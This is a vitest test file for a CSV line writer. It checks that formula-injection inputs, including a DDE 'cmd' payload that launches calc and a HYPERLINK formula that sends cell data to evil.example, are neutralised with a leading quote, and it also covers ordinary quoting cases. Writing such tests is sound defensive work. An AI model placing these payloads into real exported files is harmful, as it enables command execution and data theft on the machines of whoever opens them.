import assert from 'node:assert/strict'
import { describe, it } from 'vitest'
import { csvLine } from './csv.ts'

// Formulas for CSV injection and their safe form. From OWASP's advice, and more.
const CORPUS: readonly (readonly [text: string, field: string])[] = [
  ['=1+1', `'=1+1`],
  ['+15550001000', `'+15550001000`],
  ['-2+3', `'-2+3`],
  ['@SUM(A1)', `'@SUM(A1)`],
  [`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`],
  ['=HYPERLINK("http://evil.example?x="&A1,"x")', `"'=HYPERLINK(""http://evil.example?x=""&A1,""x"")"`],
  ['\t=1+1', `' =1+1`],
  ['\r=1+1', `"'\r=1+1"`],
  ['\n=1+1', `"'\n=1+1"`],
  ['  =1+1', `'  =1+1`],
  ['\u0000=1+1', `' =1+1`],
  ['\ttext', `' text`],
  ['\u200b=1+1', `'\u200b=1+1`],
  ['\ufeff=1+1', `'\ufeff=1+1`],
  ['\u00a0=1+1', `'\u00a0=1+1`],
  ['＝1+1', `'＝1+1`],
  ['＋1', `'＋1`],
  ['－1', `'－1`],
  ['＠SUM', `'＠SUM`],
  ['|calc', `'|calc`],
  ['%0A=1', `'%0A=1`],
  ['1=1', '1=1'],
  ['a-b', 'a-b'],
  ['plain', 'plain'],
  ['', ''],
  ['a,b', '"a,b"'],
  ['say "hi"', '"say ""hi"""'],
  ['two\r\nlines', '"two\r\nlines"'],
  ['two\nlines;=1+1', '"two\nlines;=1+1"'],
  [' blank at the ends ', '" blank at the ends "'],
  ['bell\u0007 and escape\u001b[31m', 'bell  and escape [31m'],
  ['line\u2028separator', 'line separator'],
  ['é 你好 🎉', 'é 你好 🎉'],
]

describe('a line of CSV', () => {
  it.each(CORPUS)('writes %j so that no sheet runs it', (text, field) => {
    assert.equal(csvLine([text]), field)
  })

  it('has neither text nor quotes for what is not there, and numbers as they are', () => {
    assert.equal(csvLine([null, 12.5, -3, 'x']), ',12.5,-3,x')
  })
})
